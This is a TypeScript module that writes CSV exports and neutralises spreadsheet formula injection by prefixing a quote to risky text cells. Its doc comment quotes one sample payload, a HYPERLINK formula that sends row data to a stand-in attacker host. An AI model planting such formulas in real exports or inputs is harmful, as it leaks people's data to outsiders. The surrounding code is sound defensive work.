import { type Options, type Stringifier, stringify } from 'csv-stringify';
import { stringify as stringifySync } from 'csv-stringify/sync';

/**
 * The platform's only CSV writer (test/core/architecture.test.ts keeps csv-stringify out of every
 * other file). Exports leave the system and are opened in Excel or LibreOffice, which run a cell
 * that starts with `=`, `+`, `-`, `@`, tab or CR as a formula: a citizen's description
 * `=HYPERLINK("http://evil.example/?d="&B2,"Klik")` would send the row to a stranger when a staff
 * member clicks it (CSV / formula injection, OWASP). Such text cells get a leading `'`, which the
 * spreadsheet shows as plain text.
 *
 * Left alone, on purpose: JavaScript numbers (a coordinate -6.17 is written by the number cast,
 * never by the string one) and strings that are nothing but a decimal number (`-6.17`, `+62`,
 * `1e5`): a spreadsheet reads those as a value, there is no formula in them, and prefixing them
 * would turn coordinates and prices into text. `-1+2` is not a plain number and is neutralised.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

export function neutraliseCell(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

type CsvOptions = Pick<Options, 'header' | 'columns' | 'bom' | 'delimiter'>;
const withGuard = (opts: CsvOptions): Options => ({ ...opts, cast: { string: neutraliseCell } });

/** A streaming CSV writer (write rows, then end()); hand it to reply.send. */
export function csvStream(opts: CsvOptions = {}): Stringifier {
  return stringify(withGuard(opts));
}

/** Rows to CSV text in one go (small exports). */
export function csvText(rows: readonly unknown[][], opts: CsvOptions = {}): string {
  return stringifySync(rows as unknown[][], withGuard(opts));
}
